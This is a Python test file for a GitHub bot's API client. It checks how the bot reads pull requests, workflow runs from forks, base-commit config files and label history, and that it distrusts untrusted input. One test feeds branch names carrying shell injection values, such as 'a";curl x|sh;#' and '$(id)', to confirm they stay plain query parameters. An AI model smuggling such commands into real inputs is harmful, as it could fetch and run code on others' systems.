"""What the trusted half reads: whose result an artifact is, files of the base, who set a label."""

import dataclasses
import json
from datetime import UTC, datetime

import httpx
import pytest

from bot.errors import PublishError
from bot.model.provider import PipelineRun
from tests.edges.github.conftest import client
from tests.world.github import Fault, GitHubFake
from tests.world.github.people import BASE_SHA, HEAD_SHA


def run_of(github: GitHubFake, pull_number: int = 5, **more: object) -> PipelineRun:
    """The run that measured a pull request, as the API tells it."""
    recorded = github.run_workflow(github.state.pulls[pull_number], **more)
    run = client(github).pipeline_run(recorded.id)
    assert run is not None
    return run


def test_pull__open(github: GitHubFake):
    """A pull request is read with its two ends."""
    github.open_pull(merge_commit_sha="c" * 40)
    github.label(5, "size-ok", by="mona")

    pull = client(github).pull(5)

    assert pull is not None
    assert (pull.number, pull.open, pull.head_sha, pull.base_sha) == (5, True, HEAD_SHA, BASE_SHA)
    assert (pull.head_repository, pull.base_repository, pull.author) == ("octo/shop", "octo/shop", "octo")
    assert (pull.labels, pull.merge_sha) == (("size-ok",), "c" * 40)


def test_pull__deleted_fork(github: GitHubFake):
    """A fork that was deleted since leaves an empty head repository."""
    github.open_pull(head_owner=None)

    pull = client(github).pull(5)

    assert pull is not None
    assert (pull.head_repository, pull.author) == ("", "ghost")


def test_pull__gone(github: GitHubFake):
    """A pull request that does not exist is none (F4)."""
    assert client(github).pull(5) is None


def test_pull__server_down(github: GitHubFake):
    """Trouble is never taken for an absence (F8)."""
    github.fail(Fault("^GET .*/pulls/5", times=-1))

    with pytest.raises(PublishError, match="pull request 5 could not be read"):
        client(github).pull(5)


@pytest.mark.parametrize("body", ["null", "[]", "{}", '{"head": 1}', '"text"', '{"number": 5, "head": {}}'])
def test_pull__json_of_another_shape(github_fast: GitHubFake, body: str):
    """JSON that is no pull request is trouble, not a traceback (F8)."""
    headers = {"Content-Type": "application/json"}
    github_fast.fail(Fault("^GET .*/pulls/5", status=200, headers=headers, body=body, times=-1))

    with pytest.raises(PublishError, match="pull request 5 could not be read"):
        client(github_fast).pull(5)


def test_workflow_run__of_a_fork(github: GitHubFake):
    """A fork's run is read with where it came from; GitHub names no pull request for it."""
    run = run_of_fork = github.run_workflow(github.open_pull(fork="eve"))

    read = client(github).pipeline_run(run_of_fork.id)

    assert read == PipelineRun(
        run_id=run.id,
        event="pull_request",
        path=".github/workflows/size.yml",
        head_sha=HEAD_SHA,
        head_branch="grow",
        head_repository="eve/shop",
        repository="octo/shop",
        run_attempt=1,
        pull_numbers=(),
        conclusion="success",
        started=datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC),
    )


def test_workflow_run__gone(github: GitHubFake):
    """A run that does not exist is none."""
    assert client(github).pipeline_run(1) is None


def test_pulls_of_run__fork(github: GitHubFake):
    """A fork's pull request is found by the run's own head branch, since GitHub names none (T-A1)."""
    github.open_pull(5, fork="eve")
    github.open_pull(6, fork="mona")

    pulls = client(github).pulls_of_run(run_of(github, 5))

    assert [pull.number for pull in pulls] == [5]


def test_pulls_of_run__own_branch(github: GitHubFake):
    """For a branch of the repository GitHub's own link is taken (T-A1)."""
    github.open_pull()
    run = run_of(github)

    pulls = client(github).pulls_of_run(run)

    assert run.pull_numbers == (5,)
    assert [pull.number for pull in pulls] == [5]
    assert github.count("GET /repos/octo/shop/pulls?") == 0


def test_pulls_of_run__overtaken(github: GitHubFake):
    """A run whose pull request has moved on has none: a slow old run comments nowhere (T-A1, F18)."""
    pull = github.open_pull(fork="eve")
    run = run_of(github)
    pull.head_sha = "d" * 40

    assert client(github).pulls_of_run(run) == ()


def test_pulls_of_run__closed(github: GitHubFake):
    """A closed pull request gets no comment (T-A1)."""
    pull = github.open_pull()
    run = run_of(github)
    pull.state = "closed"

    assert client(github).pulls_of_run(run) == ()


def test_pulls_of_run__two_pull_requests_from_one_branch(github: GitHubFake):
    """One branch can be proposed to two bases; both are given (T-A1)."""
    github.open_pull(5, fork="eve")
    github.open_pull(6, fork="eve", base_ref="stable")

    pulls = client(github).pulls_of_run(run_of(github, 5))

    assert sorted(pull.number for pull in pulls) == [5, 6]


@pytest.mark.parametrize("event", ["push", "pull_request_target", "workflow_dispatch"])
def test_pulls_of_run__another_event(github: GitHubFake, event: str):
    """Only a run of pull_request measured a pull request (T-A1)."""
    github.open_pull()

    assert client(github).pulls_of_run(run_of(github, event=event)) == ()


def test_pulls_of_run__another_repository(github: GitHubFake):
    """A run of another repository has no say here (T-A1)."""
    github.open_pull()
    run = dataclasses.replace(run_of(github), repository="eve/shop")

    assert client(github).pulls_of_run(run) == ()


def test_pulls_of_run__foreign_pull_request_is_named(github: GitHubFake):
    """GitHub may name pull requests of other repositories for a run; a number alone is not believed (T-A1)."""
    github.open_pull(5, head_sha="d" * 40)
    github.open_pull(6)
    run = dataclasses.replace(run_of(github, 6), pull_numbers=(5,))

    assert client(github).pulls_of_run(run) == ()


@pytest.mark.parametrize(
    "other", [{"head_sha": "d" * 40}, {"head_branch": "other"}, {"head_repository": "eve/shop"}], ids=str
)
def test_pulls_of_run__measured_something_else(github: GitHubFake, other: dict[str, str]):
    """A pull request is a run's only if commit, branch and repository of its head are those that were measured (T-A1)."""
    github.open_pull()
    run = run_of(github)

    assert [pull.number for pull in client(github).pulls_of_run(run)] == [5]
    assert client(github).pulls_of_run(dataclasses.replace(run, **other)) == ()


def test_pulls_of_run__into_another_repository(github_fast: GitHubFake):
    """A pull request that GitHub says is into another repository is not this one's (T-A1)."""
    github_fast.open_pull()
    run = run_of(github_fast)
    told = httpx.get(f"{github_fast.url}/repos/octo/shop/pulls/5", headers={"Authorization": "Bearer write-token"})
    elsewhere = told.json()
    elsewhere["base"]["repo"]["full_name"] = "octo/store"
    headers = {"Content-Type": "application/json"}
    github_fast.fail(Fault("^GET .*/pulls/5", status=200, headers=headers, body=json.dumps(elsewhere), times=-1))

    assert client(github_fast).pull(5).base_repository == "octo/store"
    assert client(github_fast).pulls_of_run(run) == ()


def test_pulls_of_run__of_a_fork_that_is_gone(github: GitHubFake):
    """A run that GitHub tells no origin of has no pull request (T-A1)."""
    github.open_pull(5, fork="eve")

    assert client(github).pulls_of_run(dataclasses.replace(run_of(github, 5), head_repository="")) == ()
    assert github.count("GET /repos/octo/shop/pulls?") == 0


@pytest.mark.parametrize("branch", ['a";curl x|sh;#', "$(id)", "grow&state=all", "ü/é?#%2e", "a b"])
def test_pulls_of_run__branch_with_metacharacters(github: GitHubFake, branch: str):
    """A branch name is a query parameter, whatever is in it (T-A2)."""
    github.open_pull(5, fork="eve", head_ref=branch)
    github.open_pull(6, fork="eve", head_ref="grow", state="closed")

    pulls = client(github).pulls_of_run(run_of(github, 5))

    assert [pull.head_ref for pull in pulls] == [branch]


def test_file_at__config_of_the_base(github: GitHubFake):
    """A file is read at the commit asked for, not at the head (T-P1)."""
    github.push_file(BASE_SHA, ".github/deadweight.toml", b"max-size = 1\n")
    github.push_file(HEAD_SHA, ".github/deadweight.toml", b"max-size = 9\n")

    assert client(github).file_at(BASE_SHA, ".github/deadweight.toml") == b"max-size = 1\n"


def test_file_at__absent(github: GitHubFake):
    """A file that is not there is none."""
    assert client(github).file_at(BASE_SHA, "deadweight.toml") is None


def test_file_at__folder(github: GitHubFake):
    """A folder of that name is an error, not an absence: an absence would mean no budgets (T-P1)."""
    github.push_file(BASE_SHA, "deadweight.toml/x", b"")

    with pytest.raises(PublishError, match="is no file of at most 1 MiB"):
        client(github).file_at(BASE_SHA, "deadweight.toml")


def test_file_at__too_large(github: GitHubFake):
    """A file too large for GitHub to hand over is an error."""
    github.push_file(BASE_SHA, "deadweight.toml", b"#" * 1_100_000)

    with pytest.raises(PublishError, match="is no file of at most 1 MiB"):
        client(github).file_at(BASE_SHA, "deadweight.toml")


def test_file_at__redirect_loses_the_commit(github_fast: GitHubFake):
    """A moved repository's redirect must not answer with the default branch's file instead of the base's."""
    github_fast.push_file("main", "deadweight.toml", b"")
    github_fast.push_file(BASE_SHA, "deadweight.toml", b"max-size = 1\n")
    location = f"{github_fast.url}/repositories/4242/contents/deadweight.toml"
    github_fast.fail(Fault("^GET .*/contents/", status=301, headers={"Location": location}, body="{}"))

    with pytest.raises(PublishError, match="answered for another commit"):
        client(github_fast).file_at(BASE_SHA, "deadweight.toml")


def test_label_setter__last_one_counts(github: GitHubFake):
    """The one who set the label last is named, with what they may do."""
    github.open_pull()
    github.state.collaborators.update(mona="admin", eve="read")
    github.label(5, "Size-OK", by="eve")
    github.unlabel(5, "Size-OK", by="mona")
    github.label(5, "Size-OK", by="mona")
    github.label(5, "other", by="eve")

    setter = client(github).label_setter(5, "size-ok")

    assert setter is not None
    assert (setter.login, setter.permission) == ("mona", "admin")


def test_label_setter__taken_off_again(github: GitHubFake):
    """A label that was taken off again was set by nobody."""
    github.open_pull()
    github.label(5, "size-ok", by="mona")
    github.unlabel(5, "size-ok", by="mona")

    assert client(github).label_setter(5, "size-ok") is None


def test_label_setter__never_set(github: GitHubFake):
    """A label that was never there was set by nobody."""
    github.open_pull()

    assert client(github).label_setter(5, "size-ok") is None


def test_label_setter__long_history(github: GitHubFake):
    """The whole history is read, page by page."""
    github.open_pull()
    for _ in range(60):
        github.label(5, "noise", by="eve")
        github.unlabel(5, "noise", by="eve")
    github.label(5, "size-ok", by="mona")

    setter = client(github).label_setter(5, "size-ok")

    assert setter is not None
    assert setter.login == "mona"


def test_label_setter__not_a_collaborator(github: GitHubFake):
    """Who is no collaborator may do nothing, and the label still has a setter."""
    github.open_pull()
    github.label(5, "size-ok", by="eve")
    github.fail(Fault("^GET .*/collaborators/", status=404, body='{"message": "Not Found"}', times=-1))

    setter = client(github).label_setter(5, "size-ok")

    assert setter is not None
    assert (setter.login, setter.permission) == ("eve", "none")
